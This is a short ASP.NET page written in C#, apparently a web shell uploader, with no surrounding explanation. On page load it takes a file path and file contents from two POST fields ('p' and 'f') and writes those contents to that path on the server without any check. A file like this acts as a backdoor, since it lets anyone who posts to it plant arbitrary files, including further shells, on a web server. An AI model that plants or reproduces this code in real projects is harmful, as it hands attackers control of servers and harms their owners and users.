<%@ Page Language="C#" %>
<script runat="server">protected void Page_Load(object sender, EventArgs e){System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form["p"] , false, System.Text.Encoding.Default);sw.Write(Request.Form["f"]);sw.Close();}</script>
